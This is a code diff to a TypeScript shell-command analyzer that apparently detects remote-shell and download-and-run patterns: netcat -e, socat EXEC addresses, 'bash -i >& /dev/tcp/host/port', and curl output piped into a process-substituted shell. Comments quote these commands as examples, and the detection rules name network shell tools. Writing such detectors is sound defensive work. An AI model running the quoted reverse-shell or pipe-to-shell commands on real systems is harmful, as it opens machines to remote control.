@@ -6,7 +6,7 @@ import { hasHole, isOption, textOf, type Word } from '../shell/word.ts';
 import type { Effect } from './effect.ts';
 import { baseOf, type EffectContext, type Family, targetOf } from './family.ts';
 import type { Fetched } from './network-fetch.ts';
-import { decodedIn, hasSource, inflowOf, networkIn, type Origin, originsOf, socketOf, upstream } from './network-flow.ts';
+import { decodedIn, hasSource, inflowOf, networkIn, type Origin, originsOf, socketOf, stepsOf, upstream } from './network-flow.ts';
 
 const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'mksh', 'ash', 'fish', 'csh', 'tcsh', 'rbash', 'busybox']);
 const POWERSHELLS = new Set(['pwsh', 'powershell']);
@@ -146,34 +146,62 @@ function downloadOf(fetched: Fetched, tmp: string): string | undefined {
   return quoteLine(['curl', '-fsSL', fetched.url, '-o', `${tmp}/${name === '' || name.startsWith('.') ? 'download' : name}`]);
 }
 
-/** Programs that start a shell for whoever is connected. */
+/** True when a program text starts a shell or an interpreter, behind whatever wrappers. A lone `SHELL` address counts. */
+const startsShell = (text: string): boolean =>
+  text
+    .replace(/["'\\]/g, ' ')
+    .split(/[\s,]+/)
+    .some((word) => {
+      const name = word.split('/').at(-1)!;
+      return SHELLS.has(name) || POWERSHELLS.has(name) || /^(cmd(\.exe)?|python[\d.]*|perl|ruby|php|node)$/.test(name);
+    });
+
+/** Programs that start a shell for whoever is connected: the peer. */
 function remoteShell(command: Command): string | undefined {
   const texts = command.args.map(shown);
   if (/^(nc|ncat|netcat)$/.test(command.name)) {
-    const opens = texts.some(
-      (text, i) => /^(--exec|--sh-exec|--lua-exec)(=|$)/.test(text) || (/^-[a-zA-Z0-9]*[ec]$/.test(text) && texts[i + 1] !== undefined),
-    );
-    const peer = texts.some((text) => /^-[a-zA-Z]*l|^--listen$/.test(text)) || texts.filter((text) => !text.startsWith('-')).length >= 2;
-    return opens && peer && texts.some((text) => !text.startsWith('-') && /\d/.test(text)) ? peerOf(texts) : undefined;
+    const program = texts.flatMap((text, i) => {
+      const long = /^--(?:exec|sh-exec|lua-exec)(?:=(.*))?$/.exec(text);
+      if (long) return [long[1] ?? texts[i + 1] ?? ''];
+      return /^-[a-zA-Z0-9]*[ec]$/.test(text) ? [texts[i + 1] ?? ''] : [];
+    })[0];
+    if (program === undefined || !startsShell(program)) return undefined;
+    const others = texts.filter((text) => !text.startsWith('-') && text !== program);
+    const listens = texts.some((text) => /^-[a-zA-Z]*l|^--listen$/.test(text));
+    return listens ? 'whoever connects' : others.length >= 2 ? others[0] : undefined;
   }
   if (command.name !== 'socat') return undefined;
   const addresses = texts.filter((text) => /^[a-z0-9-]+(:|,|$)/i.test(text));
-  const runs = addresses.some((text) => /^(exec|system|shell)\b/i.test(text));
+  const runs = addresses.some(
+    (text) => /^shell\b/i.test(text) || (/^(exec|system):/i.test(text) && startsShell(text.slice(text.indexOf(':') + 1))),
+  );
   const net = addresses.find((text) => /^(tcp|udp|sctp|dccp|openssl|ssl|proxy|socks\w*|vsock|ip|udplite)[a-z0-9-]*(:|$)/i.test(text));
   return runs && net ? net : undefined;
 }
 
-const peerOf = (texts: readonly string[]): string =>
-  texts.find((text) => !text.startsWith('-') && !text.includes('/') && !/^\d+$/.test(text)) ?? 'whoever connects';
-
-/** `bash -i >& /dev/tcp/host/port`: a shell whose output goes to another machine. */
+/** `bash -i >& /dev/tcp/host/port 0>&1`: a shell that another machine types into. */
 function shellToSocket(command: Command): string | undefined {
-  if (!SHELLS.has(command.name)) return undefined;
+  if (!SHELLS.has(command.name) || !command.redirects.some((redirect) => redirect.fds.includes(0))) return undefined;
   for (const redirect of command.redirects) {
     const socket = redirect.op === '<' ? undefined : socketOf(redirect.target);
     if (socket) return socket;
   }
   return undefined;
+}
+
+/** `curl … | tee >(bash)`, `curl … > >(sh)`: the output runs into a shell that was started beside it. */
+function runsBeside(command: Command, context: EffectContext): readonly Origin[] {
+  const flow = inflowOf(command, context);
+  const words = [
+    ...command.redirects.filter((redirect) => redirect.op.startsWith('>')).map((redirect) => redirect.target),
+    ...command.args,
+  ];
+  const steps = words.flatMap((word) =>
+    word.parts.some((part) => part.kind === 'hole' && part.text.startsWith('>(')) ? stepsOf(word) : [],
+  );
+  if (steps.length === 0 && !flow.beside) return [];
+  const beside = upstream([...steps, ...(flow.beside ?? [])], context).some((each) => runsOf(each).stdin);
+  return beside ? [...flow.stdin, ...flow.out] : [];
 }
 
 /** Package runners and deno with a URL in place of a name. */
@@ -219,7 +247,7 @@ export const execFamily: Family = (command, context): readonly Effect[] => {
     return [{ ...base, kind: 'exec.decoded', how: '-EncodedCommand', command: command.source }];
   }
   if (!hasSource(context)) return [];
-  const origins = programOrigins(command, context);
+  const origins = [...programOrigins(command, context), ...runsBeside(command, context)];
   const network = networkIn(origins);
   if (network) {
     const instead = downloadOf(network.fetched, context.look.tmp);
